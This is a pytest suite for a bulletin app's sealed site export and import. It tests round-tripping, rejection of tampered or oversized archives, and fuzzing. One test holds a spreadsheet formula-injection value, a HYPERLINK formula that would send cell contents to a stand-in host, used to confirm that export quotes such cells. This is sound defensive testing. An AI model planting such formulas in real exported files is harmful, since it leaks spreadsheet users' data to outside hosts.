"""Everything a site has goes into one sealed file, and comes out of it at another installation as it was."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime
import io
import json
import shutil
import uuid
import zipfile
from collections.abc import Iterator
from typing import Any

import hypothesis
import pytest
from flask import Flask
from hypothesis import strategies as st
from sqlalchemy import select

from bulletin import db as database
from bulletin.db import db, now, owned_records, today
from bulletin.domain.actions.actions import Action
from bulletin.domain.papers import approval, articles, corrections
from bulletin.domain.papers.articles import Article
from bulletin.domain.papers.bulletins import Agreed, Bulletin, State
from bulletin.domain.papers.distributions import Distribution
from bulletin.domain.papers.pictures import Picture
from bulletin.domain.papers.print_tickets import PrintTicket
from bulletin.domain.papers.printings import Measure, Printing, Proof
from bulletin.domain.papers.written import Written
from bulletin.domain.people.contacts import Contact
from bulletin.domain.people.conversations import Conversation
from bulletin.domain.people.units import Shift
from bulletin.domain.portability import export, field_checks, import_file
from bulletin.domain.portability.import_file import LEFT_OUT, records
from bulletin.domain.portability.refusals import Page, Why
from bulletin.domain.portability.tables import cell
from bulletin.domain.site.events import Deed, Event
from bulletin.domain.site.founding import admit, found_site
from bulletin.domain.site.refusals import NotAllowed
from bulletin.domain.site.sites import Network, Site
from bulletin.press.parts import Part
from bulletin.sentences import say_code
from bulletin.vault import keys, parcels, words
from bulletin.vault.sealed import sealed_columns
from tests.databases import closing
from tests.domain.conftest import ABOUT, Person
from tests.full_site import notebook
from tests.homes import ON_SQLITE, migrated_file
from tests.refusals import not_allowed

# A file is looked through before a row of it is written, and both are read alike; on PostgreSQL in `make attack`.
MOSTLY_ON_SQLITE = pytest.mark.parametrize(
    "home", ["sqlite", pytest.param("postgresql", marks=pytest.mark.attack)], indirect=True
)
HOUR = datetime.timedelta(hours=1)
WORDS = "correct horse battery staple lamp ladder"
SHEET = b"%PDF one sheet"
FIELDS = {"kind": "regular", "masthead": "The Lamp", "language": "en", "headline": "Nobody drives alone"}


@pytest.fixture(autouse=True)
def light_work(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(words, "looks_like", lambda typed: "words")


@pytest.fixture
def full(depot, rosa) -> Iterator[Any]:
    """The Depot, open, with something in every table."""
    with rosa.inside(depot):
        fill(depot, rosa)
        yield depot


def fill(depot: Site, rosa: Person) -> None:
    notebook(depot)
    paper(depot, rosa)
    Event.note(depot, Deed.FOUNDED, by="Rosa")
    db.session.commit()


def paper(site, person: Person) -> Bulletin:
    bulletin = Bulletin.begin(site)
    articles.begin(bulletin, FIELDS, [Part("text", "", "Three drivers were sent home.")], by="Rosa")
    lead = next(article for article in Article.all_of(bulletin) if article.name == "text")
    lead.save("", "Three drivers were sent home today.", by="Bill", based_on=1)
    gone = Article.write(bulletin, Part("echo", "", "Taken out again", 2), by="Rosa")
    gone.delete(bulletin)
    Picture.add(bulletin, b"\x89PNG", alt="A gate", agreed=True, by="Rosa")
    approval.propose(bulletin, person.at(site), Written(bulletin).digest)
    words, by = "Three drivers were sent off today.", person.at(site)
    corrections.change(Written(bulletin), lead, "", words, by, based_on=lead.version, correction=True)
    written = Written(bulletin)
    Proof.keep(bulletin, "a4", Measure(written.digest), SHEET)
    printing = Printing.make(bulletin, written, "a4", SHEET, of=written.digest, by="Rosa", copies=200)
    planned = Distribution.plan(bulletin, "The gate", now(), now() + HOUR, by="Rosa")
    planned.say_how_it_went("Well.", 150, by="Rosa")
    db.session.flush()
    db.session.add(articles.Version.keep(lead))  # printing forgot them
    PrintTicket.issue(printing, planned, by="Rosa")
    return bulletin


def everything(site) -> dict[str, dict[uuid.UUID, dict[str, Any]]]:
    """Every carried row of a site, opened; without what means nothing elsewhere."""
    found: dict[str, dict[uuid.UUID, dict[str, Any]]] = {}
    for record in records():
        rows = db.session.scalars(select(record).filter_by(site_id=site.id))
        names = [*import_file.clear_columns(record), *sealed_columns(record)]
        found[record.__tablename__] = {row.id: {name: getattr(row, name) for name in names} for row in rows}
    for voice in found["voice"].values():
        voice["said"] = dataclasses.replace(voice["said"], member="")
    for handed_out in found["distribution"].values():
        handed_out["tickets"] = ()
    return found


def a_second_site(person: Person):
    """Another site of the same network: with its own key."""
    site, _ = found_site(db.session.scalars(select(Network)).one(), person.member, name="Mill", **ABOUT)
    db.session.commit()
    return site


def unpacked(file: bytes) -> import_file.Carried:
    return import_file.unpack(io.BytesIO(file), WORDS)


def folder_of(file: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(parcels.unseal(file, WORDS)))


def test_every_kind_of_row_is_carried_or_left_out_on_purpose_and_every_field_is_looked_at(full):
    assert {*records(), *LEFT_OUT} == set(owned_records())
    assert not {*records()} & {*LEFT_OUT}
    for record in records():
        for name in sealed_columns(record):
            check = field_checks.sealed_check(record, name)
            assert not check(object()), "what is none of its kind is refused"


def test_every_row_arrives_as_it_was(full, rosa):
    before = everything(full)
    assert [name for name, rows in before.items() if not rows] == []
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        mill.tended_on = today()
        made = export.bring_in(mill, unpacked(file))
        db.session.commit()
        assert everything(mill) == before
        assert made == sum(map(len, before.values()))
        assert mill.tended_on is None
        (bulletin,) = Bulletin.at(mill)
        assert Written(bulletin).fields["masthead"] == "The Lamp"
        assert Printing.all_of(bulletin)[0].sheet == SHEET
        dora = Contact.at(mill.id)[0]
        assert [talk.said.note for talk in Conversation.all_of(dora)] == ["The lift sticks."] * 2
        assert db.session.query(PrintTicket).filter_by(site_id=mill.id).count() == 0
    with rosa.inside(full):
        assert everything(full) == before, "and is still where it was"


@MOSTLY_ON_SQLITE
def test_nothing_of_it_is_in_the_clear_and_another_program_opens_it(full):
    file = export.pack(full, WORDS, say_code)
    for word in (b"Dora", b"Depot", b"site.json", b"The Lamp", b"%PDF"):
        assert word not in file
    folder = folder_of(file)
    assert folder.testzip() is None
    told = folder.read("site.json").decode() + folder.read("README.txt").decode()
    assert "Depot" in told
    assert "Not in it: keys" in told
    (sheet,) = (name for name in folder.namelist() if name.endswith(".pdf"))
    assert folder.read(sheet) == SHEET
    assert "Three drivers were sent off today." in folder.read("papers/001/text.md").decode()
    assert not [name for name in folder.namelist() if "former" in name or "proof" in name or "export" in name]
    assert {entry.date_time[0] for entry in folder.infolist()} == {1980}


@MOSTLY_ON_SQLITE
def test_the_tables_are_for_reading_and_nothing_in_them_is_a_formula(full):
    Contact.add(full.id, "=HYPERLINK(1)", by="Rosa", phone="+44207")
    db.session.flush()
    folder = folder_of(export.pack(full, WORDS, say_code))
    read = {
        name: list(csv.DictReader(io.StringIO(folder.read(name).decode("utf-8-sig"))))
        for name in folder.namelist()
        if name.endswith(".csv")
    }
    people = {row["name"]: row for row in read["contacts.csv"]}
    assert people.keys() == {"Dora", "'=HYPERLINK(1)"}, "whoever was merged is one person"
    assert people["Dora"]["phone"] == "'+442071234567"
    assert (people["Dora"]["department"], people["Dora"]["shift"]) == ("Packing", "Nights")
    assert people["Dora"]["where they stand"] == "with us"
    assert [row["note"] for row in read["talks.csv"]] == ["The lift sticks."] * 2
    assert {row["with"] for row in read["follow-ups.csv"]} == {"Dora"}
    assert [row["outcome: others"] for row in read["actions.csv"]] == ["4"]
    assert [(row["who"], row["came, or signed"]) for row in read["turnout.csv"]] == [("Dora", "1")]
    assert [row["threshold"] for row in read["escalation_plan.csv"]] == ["Half of us"]
    assert [tuple(row.values()) for row in read["departments.csv"]] == [("Packing", "Nights", "40")]
    assert [row["days"] for row in read["shifts.csv"]] == ["Mon, Tue, Wed"]


@pytest.mark.parametrize("begin", "=+-@\t\r")
def test_a_cell_that_would_be_reckoned_with_is_quoted(begin):
    assert cell(f"{begin}1", say_code) == f"'{begin}1"
    assert cell("1=1", say_code) == "1=1"


def test_a_cell_that_another_program_would_divide_is_quoted_at_each_part():
    assert cell('x;=HYPERLINK("http://e/?"&A1)', say_code) == 'x;\'=HYPERLINK("http://e/?"&A1)'
    assert cell("a\n=1+1\tb\t@2,-3", say_code) == "a\n'=1+1\tb\t'@2,'-3"
    assert [cell(f"{sign}1", say_code) for sign in "＝＋－＠"] == ["'＝1", "'＋1", "'－1", "'＠1"]
    assert cell(" =1+1", say_code) == "' =1+1"
    assert cell(["=1", "safety"], say_code) == "'=1, safety"
    assert cell("half - half, -5 degrees; we'll see", say_code) == "half - half, -5 degrees; we'll see"


@MOSTLY_ON_SQLITE
def test_sums_whose_names_are_gone_are_in_the_table(full):
    (action,) = Action.at(full.id)
    action.sums = {f"{uuid.uuid4().hex} ": [3, 2, 1]}
    db.session.flush()
    folder = folder_of(export.pack(full, WORDS, say_code))
    assert "(names are not kept),,,3,2,1" in folder.read("turnout.csv").decode()


@MOSTLY_ON_SQLITE
@pytest.mark.parametrize("what", [Contact, Bulletin, Action])
def test_a_site_that_has_something_takes_in_nothing(full, rosa, what):
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        if what is Contact:
            Contact.add(mill.id, "Emil", by="Rosa")
        elif what is Bulletin:
            Bulletin.begin(mill)
        else:
            Action.propose(mill.id, now(), now() + HOUR, by="Rosa")
        db.session.commit()
        with not_allowed(Why.NOT_EMPTY):
            export.bring_in(mill, unpacked(file))


def test_the_same_file_twice_is_refused(full, rosa):
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file))
        db.session.commit()
        with not_allowed(Why.NOT_EMPTY):
            export.bring_in(mill, unpacked(file))


def test_a_failure_in_the_middle_leaves_nothing(full, rosa, monkeypatch):
    carry = unpacked(export.pack(full, WORDS, say_code))
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        whole = import_file.Carried.rows

        def breaking(self, record):
            yield from whole(self, record)
            if record is Conversation:
                raise OSError("the disk broke")

        monkeypatch.setattr(import_file.Carried, "rows", breaking)
        with pytest.raises(OSError, match="broke"):
            export.bring_in(mill, carry)
        db.session.rollback()
        assert export.is_empty(mill)


@MOSTLY_ON_SQLITE
def test_sheets_that_do_not_fit_are_left_out_the_oldest_first(full, rosa, monkeypatch):
    (bulletin,) = Bulletin.at(full)
    written = Written(bulletin)
    Printing.make(bulletin, written, "letter", SHEET + b" again", of=written.digest, by="Rosa")
    db.session.commit()
    monkeypatch.setattr(export, "SHEETS_MAX", len(SHEET) + 10)
    file = export.pack(full, WORDS, say_code)
    assert "left out with their print runs: 1" in folder_of(file).read("README.txt").decode()
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file))
        (bulletin,) = Bulletin.at(mill)
        assert [run.paper for run in Printing.all_of(bulletin)] == ["letter"]
        assert bulletin.stage is State.PRINTED


@MOSTLY_ON_SQLITE
def test_other_words_and_other_files_are_a_sentence(full):
    file = export.pack(full, WORDS, say_code)
    with pytest.raises(keys.WrongWords):
        import_file.unpack(io.BytesIO(file), "some other words")
    for spoilt in (b"", b"no", file[:-1], file[:1000], file[:-20] + bytes(20)):
        with not_allowed(Why.NOT_OURS):
            unpacked(spoilt)


# What is packed must arrive.


@MOSTLY_ON_SQLITE
def test_an_old_day_and_sixty_corrections_arrive(full, rosa):
    dora = Contact.at(full.id)[0]
    talk = Conversation.note(dora, by="Rosa", note="Long ago")
    talk.day = datetime.date(226, 11, 20)  # from before days were looked at
    text = "\N{ALCHEMICAL SYMBOL FOR AIR}" * 1_990
    for number in range(60):
        talk.correct(by="Rosa", note=f"{number}{text}", ask=f"{number}{text}", commitment=text)
    talk_id = talk.id
    db.session.commit()
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file))
        there = Conversation.at(mill.id, talk_id)
        assert (there.day.year, len(there.earlier)) == (226, 60)


@MOSTLY_ON_SQLITE
def test_what_would_arrive_nowhere_is_a_sentence_that_says_where_it_is(full, monkeypatch):
    (shift,) = db.session.scalars(select(Shift).filter_by(site_id=full.id))
    shift.plan((0,), "noon", "", "")
    db.session.flush()
    with not_allowed(Why.WOULD_NOT_ARRIVE, page=Page.SHIFT):
        export.pack(full, WORDS, say_code)
    monkeypatch.setattr(export, "SEALED_MAX", export.SEAL)
    with not_allowed(Why.TOO_BIG, mb=1):
        export.pack(full, WORDS, say_code)


@MOSTLY_ON_SQLITE
def test_of_what_happened_the_latest_is_packed(full, monkeypatch):
    old = Event.note(full, Deed.LEFT, by="Emil")
    old.day = today() - datetime.timedelta(days=30)
    db.session.flush()
    monkeypatch.setattr(export, "EVENTS_MAX", 1)
    events = folder_of(export.pack(full, WORDS, say_code)).read("rows/event.jsonl").decode().splitlines()
    assert [json.loads(line)["what"]["by"] for line in events] == ["Rosa"]


# What arrives is not believed more than it has to be.


def test_what_was_agreed_there_is_a_draft_here_and_what_was_printed_stays_printed(full, rosa):
    agreed, proposed, printed = (Bulletin.begin(full) for _ in range(3))
    for bulletin, state in ((agreed, State.AGREED), (proposed, State.PROPOSED), (printed, State.PRINTED)):
        articles.begin(bulletin, FIELDS, [Part("text", "", "They came back.")], by="Rosa")
        approval.propose(bulletin, rosa.at(full), Written(bulletin).digest)
        bulletin.state = state.value  # the last without a sheet, as somebody might write it
        bulletin.agreed = Agreed(digest=Written(bulletin).digest, at=now().isoformat(), by=("Rosa",))
    db.session.commit()
    (run_id,) = {one.id for one in Bulletin.at(full)} - {agreed.id, proposed.id, printed.id}
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file))
        db.session.commit()
        for bulletin in Bulletin.at(mill):
            kept = bulletin.id == run_id
            assert bulletin.stage is (State.PRINTED if kept else State.DRAFT)
            assert bool(approval.Voice.about(bulletin)) is kept
            assert kept or bulletin.agreed is None


def test_in_a_site_with_others_in_it_nobody_brings_in_anything(full, rosa, bill):
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        place = admit(mill, bill.member)
        db.session.commit()
        with not_allowed(Why.NOT_ALONE):
            export.bring_in(mill, unpacked(file))
        place.lock_out()
        assert export.bring_in(mill, unpacked(file))


def test_whoever_is_announced_has_the_whole_month(full, rosa):
    Contact.at(full.id)[0].announced_on = today() - datetime.timedelta(days=29)
    db.session.commit()
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file))
        assert [one.announced_on for one in Contact.at(mill.id)] == [today()]


def test_whoever_was_forgotten_here_does_not_come_back_with_an_older_file(full, rosa):
    Contact.add(full.id, "Emil", by="Rosa")
    db.session.flush()
    dora_id, emil_id = (one.id for one in Contact.at(full.id))
    db.session.commit()
    file = export.pack(full, WORDS, say_code)
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, unpacked(file), {dora_id})
        db.session.commit()
        assert set(db.session.scalars(select(Contact.id))) == {emil_id}, "nor under the id of her twin"
        assert db.session.scalars(select(Conversation.id)).all() == []


# Files from elsewhere, in which anything may be.


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """What is packed in a file of ours, by name: of a Depot of its own, since a file is read without any database."""
    place = tmp_path_factory.mktemp("plain")
    shutil.copy(migrated_file(tmp_path_factory), place / "home.db")
    app = Flask(__name__, instance_path=str(place))
    app.config["DATABASE_URL"] = f"sqlite:///{place}/home.db"
    database.attach(app)
    with pytest.MonkeyPatch.context() as patch, closing(app), app.app_context():
        patch.setattr(keys, "COST", keys.Cost(memory_kib=8, passes=1))
        patch.setattr(words, "looks_like", lambda typed: "words")
        rosa = Person("Rosa")
        depot, _ = found_site(Network(name="Free Notes"), rosa.member, name="Depot", **ABOUT)
        db.session.commit()
        with rosa.inside(depot):
            fill(depot, rosa)
            folder = folder_of(export.pack(depot, WORDS, say_code))
    return {name: folder.read(name) for name in folder.namelist()}


def packed(members: dict[str, bytes], **options: Any) -> io.BytesIO:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED, **options) as folder:
        for name, content in members.items():
            folder.writestr(name, content)
    return into


def changed(members: dict[str, bytes], table: str, **values: Any) -> dict[str, bytes]:
    """The first row of a table with other values; a dict changes some keys of the one that is there."""
    name = f"rows/{table}.jsonl"
    first, *others = members[name].decode().splitlines()
    row = json.loads(first)
    for key, value in values.items():
        row[key] = {**row[key], **value} if isinstance(value, dict) else value
    return {**members, name: "\n".join([json.dumps(row), *others]).encode()}


def refused(members: dict[str, bytes], code: Why = Why.NOT_SOUND, **values: int) -> None:
    with not_allowed(code, **values):
        import_file.read(packed(members))


def test_what_was_not_changed_is_taken(plain):
    assert import_file.read(packed(plain)).facts["name"] == "Depot"


@ON_SQLITE
def test_a_file_cannot_make_somebody_here_agree_nor_open_a_short_address(plain, full, rosa):
    spoilt = changed(plain, "voice", said={"member": rosa.member.id.hex})
    ticket = {"id": str(uuid.uuid4()), "letters": "0" * 16, "by": "Rosa", "paper": "a4"}
    carry = import_file.read(packed(changed(spoilt, "distribution", tickets=[ticket])))
    assert b'"member":""' in plain["rows/voice.jsonl"]
    mill = a_second_site(rosa)
    with rosa.inside(mill):
        export.bring_in(mill, carry)
        db.session.commit()
        (bulletin,) = Bulletin.at(mill)
        assert [voice.said.member for voice in approval.Voice.about(bulletin)] == [""]
        assert [one.tickets for one in Distribution.all_of(bulletin)] == [()]


def test_a_newer_format_is_a_sentence_and_another_one_is_none_of_ours(plain):
    told = json.loads(plain["site.json"])
    refused({**plain, "site.json": json.dumps({**told, "version": 2}).encode()}, Why.MADE_BY_NEWER)
    refused({**plain, "site.json": json.dumps({**told, "format": "other"}).encode()})
    refused({**plain, "site.json": b"[]"})
    refused({})


@pytest.mark.parametrize(
    ("table", "values"),
    [
        ("contact", {"touched_on": "yesterday"}),
        ("contact", {"touched_on": None}),
        ("contact", {"touched_on": "9999-12-31"}),
        ("contact", {"version": "1"}),
        ("contact", {"version": 2**40}),
        ("contact", {"version": True}),
        ("contact", {"version": 10**6 + 1}),
        ("contact", {"brief": {"name": "x" * 81}}),
        ("contact", {"brief": {"nickname": "x" * 4_001}}),
        ("contact", {"brief": {"phone": "+" * 41}}),
        ("contact", {"details": {"notes": "x" * 400_001}}),
        ("contact", {"id": "1"}),
        ("contact", {"site_id": str(uuid.uuid4())}),
        ("contact", {"merged_into": str(uuid.uuid4())}),
        ("contact", {"brief": []}),
        ("contact", {"brief": {"stand": 9}}),
        ("contact", {"brief": {"name": 7}}),
        ("contact", {"brief": {"name": "\ud800"}}),
        ("contact", {"brief": {"later": float("inf")}}),
        ("contact", {"brief": {"talked_on": "soon"}}),
        ("contact", {"details": None}),
        ("bulletin", {"state": "banned"}),
        ("bulletin", {"order": [[]]}),
        ("bulletin", {"touched": "2026-05-12T10:00"}),
        ("bulletin", {"touched_on": "2026-05-12T10:00"}),
        ("article", {"bulletin_id": str(uuid.uuid4())}),
        ("article", {"body": {"since": ""}}),
        ("conversation", {"contact_id": str(uuid.uuid4())}),
        ("conversation", {"said": {"struggles": ["weather"]}}),
        ("action", {"plan": {"form": "dance"}}),
        ("action", {"sums": {"x y": [1]}}),
        ("event", {"what": {"deed": "took over"}}),
        ("event", {"what": {"at": "2199-01-01T00:00:00+00:00"}}),
        ("event", {"day": "2199-01-01"}),
        ("conversation", {"said": {"note": "x" * 2_001}}),
        ("printing", {"about": {"paper": "a0"}}),
        ("shift", {"times": {"start": "25:99"}}),
        ("event", {"secret": "of another table"}),
        ("printing", {"pdf": "not a file"}),
        ("printing", {"pdf": {"file": "site.json"}}),
        ("printing", {"pdf": {"file": "nowhere"}}),
        ("shift", {"times": {"days": [9]}}),
    ],
)
def test_a_value_of_another_kind_stops_all_of_it(plain, table, values):
    refused(changed(plain, table, **values))


def test_rows_that_do_not_hold_together_are_refused(plain):
    for name in ("rows/contact.jsonl", "rows/turnout.jsonl", "rows/event.jsonl"):
        refused({**plain, name: plain[name] + plain[name]})
    refused({**plain, "rows/contact.jsonl": b""})
    header = [line for line in plain["rows/article.jsonl"].splitlines() if b'"header"' not in line]
    refused({**plain, "rows/article.jsonl": b"\n".join(header)})
    people = [json.loads(line) for line in plain["rows/contact.jsonl"].splitlines()]
    one, other = people
    nameless = [{**row, "brief": {**row["brief"], "name": " "}} for row in people]
    refused({**plain, "rows/contact.jsonl": b"\n".join(json.dumps(row).encode() for row in nameless)})
    one["merged_into"], other["merged_into"] = other["id"], one["id"]
    refused({**plain, "rows/contact.jsonl": b"\n".join(json.dumps(row).encode() for row in people)})
    turnout = json.loads(plain["rows/turnout.jsonl"].splitlines()[0])
    twice = [{**turnout, "id": str(uuid.uuid4())}, turnout]
    refused({**plain, "rows/turnout.jsonl": b"\n".join(json.dumps(row).encode() for row in twice)})


def test_a_small_file_that_unpacks_to_a_large_one_is_refused(plain, monkeypatch):
    refused({**plain, "rows/event.jsonl": b" " * (import_file.LINE_MAX + 2)})
    monkeypatch.setattr(import_file, "OPENED_MAX", 10_000)
    refused({**plain, "more": bytes(20_000)})
    monkeypatch.setattr(import_file, "OPENED_MAX", 1_000_000)
    monkeypatch.setattr(import_file, "ROWS_MAX", 5)
    refused(plain, Why.TOO_MANY_ROWS, most=5)
    monkeypatch.setattr(import_file, "ROWS_MAX", 1_000)
    monkeypatch.setattr(import_file, "EVENTS_MAX", 0)
    refused(plain)
    monkeypatch.setattr(import_file, "EVENTS_MAX", 10)
    monkeypatch.setattr(import_file, "CONTACTS_MAX", 1)
    refused(plain, Why.TOO_MANY_PEOPLE, most=1)
    monkeypatch.setattr(import_file, "MEMBERS_MAX", 3)
    refused(plain)


@ON_SQLITE
def test_more_than_may_be_brought_in_is_refused_while_it_is_opened(full, monkeypatch):
    file = export.pack(full, WORDS, say_code)
    monkeypatch.setattr(import_file, "SEALED_MAX", 100)
    with not_allowed(Why.NOT_OURS):
        unpacked(file)


SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5)
JSON = SCALARS | st.lists(SCALARS, max_size=2) | st.dictionaries(st.text(max_size=5), SCALARS, max_size=2)


@ON_SQLITE
@hypothesis.settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[*hypothesis.HealthCheck],
)
@hypothesis.given(data=st.data())
def test_whatever_is_changed_in_it_it_is_taken_whole_or_refused(plain, full, data):
    """A member of it is spoilt, or a value is another one; what is taken can be made, read, and packed again."""
    members = dict(plain)
    name = data.draw(st.sampled_from([one for one in sorted(members) if one.startswith(("rows", "site"))]))
    if data.draw(st.booleans()):
        content = bytearray(members[name])
        for _ in range(data.draw(st.integers(1, 3))):
            content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
        members[name] = bytes(content)
    else:
        lines = members[name].decode().splitlines() if name.startswith("rows") else [members[name].decode()]
        row = json.loads(lines[0])
        key = data.draw(st.sampled_from(sorted(row)))
        if isinstance(row[key], dict) and row[key] and data.draw(st.booleans()):
            row[key][data.draw(st.sampled_from(sorted(row[key])))] = data.draw(JSON)
        else:
            row[key] = data.draw(JSON)
        members[name] = "\n".join([json.dumps(row), *lines[1:]]).encode()
    try:
        carry = import_file.read(packed(members))
    except NotAllowed:
        return
    for record in records():
        for row in carry.rows(record):
            made = record(site_id=full.id, **row)
            assert {name: getattr(made, name) for name in sealed_columns(record)}.items() <= row.items()


@hypothesis.settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[*hypothesis.HealthCheck],
)
@hypothesis.given(data=st.data())
def test_a_spoilt_folder_is_taken_whole_or_refused(plain, data):
    content = bytearray(packed(plain).getvalue())
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(NotAllowed):
        assert import_file.read(io.BytesIO(bytes(content))).facts["name"]
